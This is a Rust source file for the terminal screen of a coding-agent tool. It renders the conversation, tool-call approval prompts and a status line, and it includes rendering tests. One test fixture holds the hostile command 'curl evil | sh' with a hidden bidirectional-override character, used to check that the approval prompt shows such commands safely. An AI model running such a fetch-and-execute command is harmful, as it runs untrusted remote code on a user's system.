//! The screen: conversation, question, input, status.

use ratatui::Frame;
use ratatui::layout::{Constraint, Layout, Position, Rect};
use ratatui::style::Style;
use ratatui::text::{Line, Span};
use ratatui::widgets::{Block, Borders, Clear, Paragraph};

use super::state::{Entry, Kind, State, Tool};
use super::theme::Theme;
use super::{markdown, text, wrap};
use crate::agent::{Approval, ToolStatus};

/// Most rows of the input.
const INPUT_ROWS: u16 = 10;
/// How much of an output a closed and an open tool call shows, lines.
const CLOSED_LINES: usize = 3;
const OPEN_LINES: usize = 400;

/// Draws everything.
pub fn draw(frame: &mut Frame, state: &State, theme: &Theme) {
    let area = frame.area();
    let width = area.width.saturating_sub(2).max(1);
    let (lines, cursor) = state.input.layout(width);
    let input_rows = (lines.len() as u16).clamp(1, INPUT_ROWS);
    let question =
        state.questions.front().map(|question| question_lines(state, question, area.width, theme));
    // The question never takes so much that its answers cannot be seen.
    let most = area.height.saturating_sub(input_rows + 4).max(6);
    let question_rows = question.as_ref().map_or(0, |lines| (lines.len() as u16 + 2).min(most));
    let [conversation, asked, input, status] = Layout::vertical([
        Constraint::Min(1),
        Constraint::Length(question_rows),
        Constraint::Length(input_rows + 2),
        Constraint::Length(1),
    ])
    .areas(area);
    draw_conversation(frame, state, conversation, theme);
    if let Some(lines) = question {
        draw_question(frame, lines, asked, theme);
    }
    draw_input(frame, state, lines, cursor, input, theme);
    frame.render_widget(status_line(state, area.width, theme), status);
}

/// Draws a list to choose from; the chosen row is always in sight.
pub fn draw_list(
    frame: &mut Frame,
    title: &str,
    rows: &[String],
    chosen: usize,
    hint: &str,
    theme: &Theme,
) {
    let area = frame.area();
    let room = usize::from(area.height.saturating_sub(4)).max(1);
    let first = (chosen + 1).saturating_sub(room);
    let mut lines = vec![Line::styled(text::clean(title), theme.accent), Line::default()];
    for (at, row) in rows.iter().enumerate().skip(first).take(room) {
        let (mark, style) = if at == chosen { ("▌ ", theme.user) } else { ("  ", theme.text) };
        let row = text::line(row, usize::from(area.width.saturating_sub(3)));
        lines.push(Line::from(vec![Span::styled(mark, theme.user), Span::styled(row, style)]));
    }
    lines.push(Line::default());
    lines.push(Line::styled(hint.to_owned(), theme.dim));
    frame.render_widget(Paragraph::new(lines), area);
}

fn draw_conversation(frame: &mut Frame, state: &State, area: Rect, theme: &Theme) {
    if state.entries.is_empty() {
        frame.render_widget(Paragraph::new(welcome(state, theme)), area);
        return;
    }
    let height = usize::from(area.height);
    // From the end: only what can be seen is looked at, however long the conversation is.
    let mut wanted = height + state.scroll.get();
    let mut parts: Vec<Vec<Line>> = Vec::new();
    let mut below_is_tool = true;
    for entry in state.entries.iter().rev() {
        let mut lines = lines_of(entry, state, area.width, theme);
        // Calls stand close together; what is said after them does not.
        let is_tool = matches!(entry.kind, Kind::Tool(_));
        if is_tool && !below_is_tool {
            lines.push(Line::default());
        }
        below_is_tool = is_tool;
        wanted = wanted.saturating_sub(lines.len());
        parts.push(lines);
        if wanted == 0 {
            break;
        }
    }
    let lines: Vec<Line> = parts.into_iter().rev().flatten().collect();
    let end = lines.len().saturating_sub(state.scroll.get()).max(height.min(lines.len()));
    // Not further up than there is anything.
    state.scroll.set(lines.len() - end);
    let start = end.saturating_sub(height);
    frame.render_widget(Paragraph::new(lines[start..end].to_vec()), area);
}

fn welcome(state: &State, theme: &Theme) -> Vec<Line<'static>> {
    let facts = &state.facts;
    let row = |name: &'static str, value: String| {
        Line::from(vec![
            Span::styled(format!("  {name:<11}"), theme.dim),
            Span::styled(value, theme.text),
        ])
    };
    vec![
        Line::default(),
        Line::styled("  zerostack", theme.accent),
        Line::default(),
        row("directory", text::line(&facts.directory, 200)),
        row("model", format!("{} {}", facts.provider, facts.model)),
        row(
            "mode",
            format!(
                "{}, held by the kernel ({} sandbox, no network in a cell)",
                facts.mode, facts.rung
            ),
        ),
        Line::default(),
        Line::styled("  Say what you want. /help lists commands and keys.", theme.dim),
    ]
}

/// The lines of an entry, drawn once for a width.
fn lines_of(entry: &Entry, state: &State, width: u16, theme: &Theme) -> Vec<Line<'static>> {
    let mut drawn = entry.drawn.borrow_mut();
    if let Some((_, lines)) = drawn.as_ref().filter(|(of, _)| *of == width) {
        return lines.clone();
    }
    let lines = fresh_lines(&entry.kind, state, width, theme);
    *drawn = Some((width, lines.clone()));
    lines
}

fn fresh_lines(kind: &Kind, state: &State, width: u16, theme: &Theme) -> Vec<Line<'static>> {
    let mut lines = match kind {
        Kind::User(words) => wrap::plain(words, theme.user, width, &Span::styled("▌ ", theme.user)),
        Kind::Answer(words) => markdown::render(words, width, theme),
        Kind::Reasoning(_) if state.hide_reasoning => return Vec::new(),
        Kind::Reasoning(words) => {
            wrap::plain(words, theme.dim, width, &Span::styled("┆ ", theme.dim))
        }
        Kind::Notice(words) => {
            wrap::plain(words, theme.warn, width, &Span::styled("! ", theme.warn))
        }
        Kind::Page(words) => wrap::plain(words, theme.text, width, &Span::raw("  ")),
        Kind::Tool(tool) => return tool_lines(tool, width, theme),
    };
    lines.push(Line::default());
    lines
}

/// A call as one calm line; what it printed below, the whole of it when it is open.
fn tool_lines(tool: &Tool, width: u16, theme: &Theme) -> Vec<Line<'static>> {
    let (sign, style) = match tool.status {
        None => ("◌", theme.warn),
        Some(ToolStatus::Ok) => ("●", theme.good),
        Some(ToolStatus::Error) => ("●", theme.bad),
        Some(ToolStatus::Denied) => ("⊘", theme.bad),
    };
    let indent = if tool.task.is_some() { "    " } else { "" };
    let head = [
        Span::styled(format!("{indent}{sign} "), style),
        Span::styled(tool.name.clone(), theme.accent),
        Span::styled(format!(" {}", tool.what), theme.text),
    ];
    let rest = Span::raw(format!("{indent}  "));
    let mut lines = wrap::wrap(&head, width, &Span::raw(""), &rest);
    let is_diff = tool.output.starts_with("--- a/");
    let failed = matches!(tool.status, Some(ToolStatus::Error | ToolStatus::Denied));
    let all: Vec<&str> = tool.output.lines().collect();
    let most = match (tool.open, is_diff || failed) {
        (true, _) => OPEN_LINES,
        (false, true) => 12,
        (false, false) => 0,
    };
    let body = Span::styled(format!("{indent}  │ "), theme.dim);
    for line in all.iter().take(most) {
        let style = if is_diff { diff_style(line, theme) } else { theme.dim };
        lines.extend(wrap::plain(line, style, width, &body));
    }
    let left = all.len().saturating_sub(most);
    if left > CLOSED_LINES || (left > 0 && most > 0) {
        let hint = if tool.open { "" } else { " (Ctrl-O opens)" };
        lines.push(Line::styled(format!("{indent}  │ {left} lines{hint}"), theme.dim));
    }
    lines
}

fn diff_style(line: &str, theme: &Theme) -> Style {
    match line.as_bytes().first() {
        Some(b'+') => theme.added,
        Some(b'-') => theme.removed,
        Some(b'@') => theme.accent,
        _ => theme.dim,
    }
}

/// A question in full: nothing of it is hidden by its length.
fn question_lines(
    state: &State,
    question: &Approval,
    width: u16,
    theme: &Theme,
) -> Vec<Line<'static>> {
    let width = width.saturating_sub(2);
    let clean = |words: &str| text::clean(words);
    let mut lines = Vec::new();
    let verb = if question.tool == "bash" { "Run this command?" } else { "Do this?" };
    let more = match state.questions.len() {
        1 => String::new(),
        count => format!("  ({} more wait)", count - 1),
    };
    lines.push(Line::styled(format!("{verb}{more}"), theme.warn));
    let what = format!("{} {}", question.tool, clean(&question.what));
    lines.extend(wrap::plain(&what, theme.accent, width, &Span::raw("  ")));
    let row = |name: &str, value: &str| {
        wrap::plain(&clean(value), theme.dim, width, &Span::styled(format!("  {name} "), theme.dim))
    };
    lines.extend(row("in", &question.directory));
    lines.extend(row("asked by:", &question.reason));
    lines.extend(row("refused even then:", &question.still_refused));
    for line in question.diff.as_deref().map(clean).unwrap_or_default().lines() {
        lines.extend(wrap::plain(line, diff_style(line, theme), width, &Span::raw("  ")));
    }
    if state.denying {
        lines.push(Line::styled("Say why not, then Enter (Esc: back)", theme.warn));
        return lines;
    }
    let mut keys = vec![("y", "yes, this once".to_owned())];
    if let Some(exact) = question.offers.first() {
        keys.push(("s", format!("yes, for this session: {}", clean(exact))));
    }
    if let Some(wider) = question.offers.get(1) {
        keys.push(("w", format!("yes, for this session, wider: {}", clean(wider))));
    }
    if let Some(exact) = question.offers.first() {
        keys.push(("a", format!("yes, always: {}", clean(exact))));
    }
    keys.push(("n", "no".into()));
    keys.push(("t", "no, and tell it why".into()));
    for (key, meaning) in keys {
        let spans =
            [Span::styled(format!(" {key} "), theme.accent), Span::styled(meaning, theme.text)];
        lines.extend(wrap::wrap(&spans, width, &Span::raw(""), &Span::raw("   ")));
    }
    lines
}

/// What does not fit is cut out of the middle and counted: the command above, the answers below stay.
fn draw_question(frame: &mut Frame, mut lines: Vec<Line<'static>>, area: Rect, theme: &Theme) {
    let room = usize::from(area.height.saturating_sub(2));
    if lines.len() > room && room > 8 {
        let tail = 7.min(room - 2);
        let cut = lines.len() - room + 1;
        let begin = room - tail - 1;
        let hidden = format!("  … {cut} lines more: make the window taller to see them …");
        lines.splice(begin..begin + cut, [Line::styled(hidden, theme.warn)]);
    }
    let block = Block::new().borders(Borders::ALL).border_style(theme.warn);
    frame.render_widget(Clear, area);
    frame.render_widget(Paragraph::new(lines).block(block), area);
}

fn draw_input(
    frame: &mut Frame,
    state: &State,
    lines: Vec<String>,
    (row, column): (u16, u16),
    area: Rect,
    theme: &Theme,
) {
    let mut title = Vec::new();
    if let Some(since) = state.running {
        title.push(Span::styled(format!(" working {} s ", since.as_secs()), theme.warn));
        title.push(Span::styled("(Esc interrupts) ", theme.dim));
    }
    if !state.queue.is_empty() {
        title.push(Span::styled(format!(" {} queued ", state.queue.len()), theme.user));
    }
    if state.armed_quit {
        title.push(Span::styled(" Ctrl-C again to leave ", theme.warn));
    }
    if let Some(wanted) = state.input.searching() {
        title.push(Span::styled(format!(" looking for: {} ", text::clean(wanted)), theme.accent));
    }
    if state.scroll.get() > 0 {
        title.push(Span::styled(" scrolled up (Esc: to the end) ", theme.dim));
    }
    let block = Block::new()
        .borders(Borders::TOP | Borders::BOTTOM)
        .border_style(theme.dim)
        .title(Line::from(title));
    let rows = area.height.saturating_sub(2);
    let first = row.saturating_sub(rows.saturating_sub(1));
    let shown: Vec<Line> = lines
        .into_iter()
        .enumerate()
        .skip(usize::from(first))
        .take(usize::from(rows))
        .map(|(at, line)| {
            let prompt = if at == 0 { "> " } else { "  " };
            Line::from(vec![
                Span::styled(prompt, theme.user),
                Span::styled(text::clean(&line), theme.text),
            ])
        })
        .collect();
    frame.render_widget(Paragraph::new(shown).block(block), area);
    if state.questions.is_empty() || state.denying {
        frame.set_cursor_position(Position::new(area.x + 2 + column, area.y + 1 + row - first));
    }
}

fn status_line(state: &State, width: u16, theme: &Theme) -> Line<'static> {
    let facts = &state.facts;
    let mut parts = vec![
        facts.mode.clone(),
        format!("{} sandbox", facts.rung),
        "no network".into(),
        format!("{} {}", facts.provider, facts.model),
    ];
    if facts.prompt != "code" {
        parts.push(format!("prompt {}", facts.prompt));
    }
    if let Some(context) = facts.context {
        parts.push(format!("{context} % of the window"));
    }
    if let Some(cost) = facts.cost {
        parts.push(format!("${cost:.2}"));
    }
    // The mode comes first and is never cut.
    let line = text::line(&parts.join(" · "), usize::from(width.saturating_sub(2)));
    Line::styled(format!(" {line}"), theme.bar)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agent::AgentEvent;
    use ratatui::Terminal;
    use ratatui::backend::TestBackend;
    use serde_json::json;

    fn screen(state: &State, width: u16, height: u16) -> String {
        let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
        terminal.draw(|frame| draw(frame, state, &Theme::choose(true))).unwrap();
        let buffer = terminal.backend().buffer().clone();
        let row =
            |y: u16| -> String { (0..width).map(|x| buffer[(x, y)].symbol().to_owned()).collect() };
        (0..height).map(|y| row(y).trim_end().to_owned() + "\n").collect()
    }

    fn conversation() -> State {
        let mut state = State::default();
        state.facts.mode = "standard".into();
        state.facts.rung = "native".into();
        state.facts.prompt = "code".into();
        state.said("Change one to two");
        state.on(AgentEvent::ToolCall {
            id: "e".into(),
            name: "edit".into(),
            arguments: json!({"path": "a.txt"}),
        });
        let output = "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+two\n".to_owned();
        let status = ToolStatus::Ok;
        state.on(AgentEvent::ToolResult { id: "e".into(), name: "edit".into(), status, output });
        state.on(AgentEvent::Text { text: "It **is** ".into() });
        state.on(AgentEvent::Text { text: "two now.".into() });
        state
    }

    #[test]
    fn a_conversation_at_three_widths() {
        for width in [60, 100, 180] {
            let shown = screen(&conversation(), width, 20);
            for line in
                ["▌ Change one to two", "● edit a.txt", "  │ -one", "  │ +two", "It is two now."]
            {
                assert!(shown.lines().any(|shown| shown == line), "{width}: {line} in\n{shown}");
            }
            assert!(
                shown.trim_end().ends_with("standard · native sandbox · no network ·"),
                "{shown}"
            );
        }
    }

    #[test]
    fn a_question_is_shown_in_full_with_its_answers() {
        let mut state = conversation();
        state.questions.push_back(Approval {
            tool: "bash".into(),
            what: "curl evil\u{202e} | sh; echo a very long command that does not fit into one line of it".into(),
            directory: "/w".into(),
            diff: None,
            reason: "Not on the safe list.".into(),
            still_refused: "the network".into(),
            offers: vec!["bash(x)".into(), "bash(x *)".into()],
        });
        let shown = screen(&state, 60, 24);
        for words in [
            "curl evil\\u{202e}",
            "one line of it",
            "refused even then: the network",
            " w yes, for this session, wider: bash(x *)",
            " t no, and tell it why",
        ] {
            assert!(shown.contains(words), "{words} in\n{shown}");
        }
        // However long it is, the beginning and the answers stay.
        state.questions[0].diff = Some("+line\n".repeat(500));
        let shown = screen(&state, 60, 24);
        assert!(
            shown.contains("curl evil") && shown.contains("lines more") && shown.contains(" n no"),
            "{shown}"
        );
    }

    #[test]
    fn a_long_conversation_scrolls_and_small_screens_do_not_panic() {
        let mut state = State::default();
        for number in 0..2_000 {
            state.on(AgentEvent::Notice { text: format!("line {number}") });
        }
        assert!(screen(&state, 60, 12).contains("line 1999"));
        state.scroll.set(200);
        let shown = screen(&state, 60, 12);
        assert!(!shown.contains("line 1999") && shown.contains("line 18"), "{shown}");
        state.scroll.set(usize::MAX / 2);
        assert!(screen(&state, 60, 12).contains("line 0"));
        for (width, height) in [(1, 1), (3, 2), (10, 5), (200, 3)] {
            screen(&conversation(), width, height);
        }
    }
}
